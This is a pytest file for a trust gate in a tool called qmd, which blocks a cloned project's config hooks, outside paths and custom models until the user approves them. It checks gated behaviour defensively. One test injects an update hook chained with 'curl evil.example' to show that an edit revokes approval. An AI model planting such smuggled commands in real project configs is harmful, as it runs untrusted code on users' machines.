"""The trust gate of project-local configs (`server/index/trust.py`): a cloned `.qmd`
runs nothing, reaches no folder outside the project and loads no model of its own
until its user approves exactly that set."""

from __future__ import annotations

import json
import os
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest
from conftest import write

from qmd.paths import IndexPaths, config_root
from qmd.server.engine import Engine
from qmd.server.errors import Conflict, InvalidInput
from qmd.server.index import trust
from qmd.server.index.config import Config, init_project
from qmd.server.models.refs import DEFAULT_MODELS

CUSTOM_EMBED = "hf:someone/evil-GGUF/evil.gguf"


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A HOME and config folder of this test's own: approvals land in its trusted.json."""
    home = tmp_path / "home"
    home.mkdir()
    for var in ("QMD_CONFIG_DIR", trust.TRUST_ALL_VAR, trust.TRUST_HOOKS_VAR, "QMD_EMBED_MODEL"):
        monkeypatch.delenv(var, raising=False)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(home / ".config"))
    monkeypatch.setenv("XDG_CACHE_HOME", str(home / ".cache"))
    monkeypatch.setenv("QMD_WATCH", "0")
    return home


def cloned(root: Path, marker: Path, outside: Path | None = None, models: dict[str, str] | None = None) -> Path:
    """A project as `git clone` leaves it: notes, and a `.qmd/index.yml` someone else wrote."""
    write(root, {"README.md": "# Project\n\nThe widget manual.\n", "docs/guide.md": "# Guide\n\nTurn the widget.\n"})
    colls: dict = {"docs": {"path": ".", "update": f"touch {marker}"}}
    if outside is not None:
        colls["secrets"] = {"path": str(outside)}
    cfg = {"collections": colls, **({"models": models} if models else {})}
    (root / ".qmd").mkdir(exist_ok=True)
    (root / ".qmd" / "index.yml").write_text(json.dumps(cfg), encoding="utf-8")
    return root


@pytest.fixture
def project(home: Path, tmp_path: Path) -> Path:
    return cloned(tmp_path / "repo", tmp_path / "hook-ran")


@pytest.fixture
def engine(project: Path) -> Iterator[Engine]:
    e = Engine(IndexPaths.for_project(project))
    yield e
    e.close()


def approve(e: Engine) -> trust.Approval:
    g = e.gate()
    return e.trust.approve(g, g.fingerprint)


def test_an_untrusted_hook_never_runs_and_in_project_indexing_continues(engine: Engine, tmp_path: Path) -> None:
    events: list[dict] = []
    [summary] = engine.update(progress=events.append)
    assert not (tmp_path / "hook-ran").exists()
    assert summary.indexed == 2  # `path: .` is the project folder, wherever it was cloned
    assert summary.warnings[0] == (
        "skipped: update command of collection docs (untrusted project config; run 'qmd trust')"
    )
    assert not [e for e in events if e["event"] == "hook"]
    assert engine.status().warnings == [summary.warnings[0]]


def test_approval_runs_the_hook_and_any_edit_asks_again(engine: Engine, project: Path, tmp_path: Path) -> None:
    approved = approve(engine)
    assert approved.root == str(project)
    assert approved.items == (f"update command of collection docs: touch {tmp_path / 'hook-ran'}",)
    [summary] = engine.update()
    assert (tmp_path / "hook-ran").exists() and not summary.warnings
    assert engine.status().warnings == []

    (tmp_path / "hook-ran").unlink()
    cfg_file = project / ".qmd" / "index.yml"
    cfg = json.loads(cfg_file.read_text())
    cfg["collections"]["docs"]["update"] = f"touch {tmp_path / 'hook-ran'}; curl evil.example"
    cfg_file.write_text(json.dumps(cfg))
    g = engine.gate()
    assert not g.approved and g.fingerprint != approved.fingerprint
    engine.update()
    assert not (tmp_path / "hook-ran").exists()


def test_an_edit_of_something_not_gated_keeps_the_approval(engine: Engine, project: Path) -> None:
    approve(engine)
    cfg_file = project / ".qmd" / "index.yml"
    cfg = json.loads(cfg_file.read_text())
    cfg["collections"]["docs"]["pattern"] = "**/*.txt"
    cfg["global_context"] = "Widgets"
    cfg_file.write_text(json.dumps(cfg))
    assert engine.gate().approved


def test_a_collection_outside_the_project_is_neither_indexed_nor_watched(home: Path, tmp_path: Path) -> None:
    outside = write(tmp_path / "private", {"diary.md": "# Diary\n\nMy secrets.\n"})
    root = cloned(tmp_path / "repo", tmp_path / "hook-ran", outside=outside)
    e = Engine(IndexPaths.for_project(root))
    try:
        events: list[dict] = []
        summaries = e.update(progress=events.append)
        assert [s.collection for s in summaries] == ["docs"]
        gated = [ev for ev in events if ev["event"] == "gated"]
        assert gated == [
            {
                "event": "gated",
                "collection": "secrets",
                "note": f"skipped: collection secrets at {outside}, outside the project "
                "(untrusted project config; run 'qmd trust')",
            }
        ]
        assert e.index_watched("secrets", None) is None
        assert e.search("secrets").hits == []
        watch = next(c.watch for c in e.status().collections if c.name == "secrets")
        assert watch is not None and watch.mode == "off" and "outside the project" in watch.reason
        approve(e)
        assert [s.collection for s in e.update()] == ["docs", "secrets"]
        assert e.search("secrets").hits
    finally:
        e.close()


def test_a_symlink_out_of_the_project_is_outside(home: Path, tmp_path: Path) -> None:
    outside = write(tmp_path / "etc", {"passwd.md": "root\n"})
    root = cloned(tmp_path / "repo", tmp_path / "m")
    os.symlink(outside, root / "link")
    cfg = Config.from_yaml({"collections": {"l": {"path": "link"}, "d": {"path": "docs"}}}, root / "x", root)
    items = trust.gated_items(cfg, root, root / ".qmd", {})
    assert items == [trust.Gated("path", "l", str(outside))]


def test_a_project_model_falls_back_to_the_default_and_is_never_fetched(home: Path, tmp_path: Path) -> None:
    root = cloned(tmp_path / "repo", tmp_path / "m", models={"embed": CUSTOM_EMBED, "rerank": DEFAULT_MODELS["rerank"]})
    e = Engine(IndexPaths.for_project(root))
    try:
        g = e.gate()
        assert [(i.kind, i.name) for i in g.skipped] == [("update", "docs"), ("model", "embed")]  # rerank is default
        assert f"skipped: embed model {CUSTOM_EMBED} (untrusted project config: the default is used" in " ".join(
            e.status().warnings
        )
        resolved = e._models()
        assert resolved["embed"].ref.uri == DEFAULT_MODELS["embed"] and resolved["embed"].source == "default"
        approve(e)
        assert e._models()["embed"].ref.uri == CUSTOM_EMBED
    finally:
        e.close()


def test_the_users_own_model_choice_is_not_gated(home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """`qmd init` pre-fills the models as resolved, a QMD_EMBED_MODEL included: that is the
    user's own choice, not the project's."""
    monkeypatch.setenv("QMD_EMBED_MODEL", CUSTOM_EMBED)
    cfg = Config(models={"embed": CUSTOM_EMBED, "generate": DEFAULT_MODELS["generate"]})
    assert trust.gated_items(cfg, tmp_path, tmp_path / ".qmd") == []
    monkeypatch.delenv("QMD_EMBED_MODEL")
    assert [i.name for i in trust.gated_items(cfg, tmp_path, tmp_path / ".qmd")] == ["embed"]


def test_a_local_model_file_and_a_bad_model_setting_are_gated(tmp_path: Path) -> None:
    cfg = Config(models={"rerank": "./models/r.gguf", "generate": "ftp://nope"})
    items = trust.gated_items(cfg, tmp_path, tmp_path / ".qmd", {})
    assert items == [
        trust.Gated("model", "rerank", str(tmp_path / ".qmd" / "models" / "r.gguf")),
        trust.Gated("model", "generate", "ftp://nope"),
    ]


@pytest.mark.parametrize(
    ("env", "blocked"),
    [
        ({trust.TRUST_ALL_VAR: "1"}, []),
        ({trust.TRUST_HOOKS_VAR: "1"}, [("path", "secrets")]),
        ({trust.TRUST_ALL_VAR: "0", trust.TRUST_HOOKS_VAR: "false"}, [("update", "docs"), ("path", "secrets")]),
    ],
)
def test_the_environment_overrides(
    home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, env: dict[str, str], blocked: list
) -> None:
    for var, value in env.items():
        monkeypatch.setenv(var, value)
    root = cloned(tmp_path / "repo", tmp_path / "hook-ran", outside=write(tmp_path / "out", {"a.md": "a\n"}))
    e = Engine(IndexPaths.for_project(root))
    try:
        assert sorted(e.gate().blocked) == sorted(blocked)
        e.update()
        assert (tmp_path / "hook-ran").exists() is (("update", "docs") not in blocked)
    finally:
        e.close()


def test_the_users_own_config_is_never_gated(home: Path, tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    e = Engine(IndexPaths.resolve("work"))
    try:
        notes = write(tmp_path / "notes", {"a.md": "# A\n"})
        e.create_collection(str(notes), "notes")
        e.set_collection("notes", update_cmd=f"touch {marker}")
        assert e.gate() is trust.OPEN
        e.update()
        assert marker.exists()
    finally:
        e.close()


def test_the_trust_file_is_private_and_revocable(engine: Engine, project: Path) -> None:
    approve(engine)
    path = config_root() / trust.TRUST_FILE
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700
    assert engine.gate().approved
    assert engine.trust.revoke(project) is not None
    assert not engine.gate().approved
    assert engine.trust.revoke(project) is None


def test_approval_refuses_a_set_the_user_did_not_see(engine: Engine, project: Path) -> None:
    with pytest.raises(Conflict, match="changed since"):
        engine.trust.approve(engine.gate(), "0" * 64)
    assert not (config_root() / trust.TRUST_FILE).exists()


def test_nothing_to_approve_is_a_clear_error(home: Path, tmp_path: Path) -> None:
    root = write(tmp_path / "plain", {"a.md": "# A\n"})
    init_project(root, dict(DEFAULT_MODELS))
    e = Engine(IndexPaths.for_project(root))
    try:
        g = e.gate()
        assert g.items == () and g.blocked == frozenset()
        with pytest.raises(InvalidInput, match="no gated items"):
            e.trust.approve(g, g.fingerprint)
    finally:
        e.close()


def test_a_corrupt_trust_file_trusts_nothing_and_is_not_overwritten(engine: Engine, tmp_path: Path) -> None:
    path = config_root() / trust.TRUST_FILE
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("{not json")
    assert not engine.gate().approved
    engine.update()
    assert not (tmp_path / "hook-ran").exists()
    with pytest.raises(InvalidInput, match="not a valid trust file"):
        approve(engine)
    assert path.read_text() == "{not json"
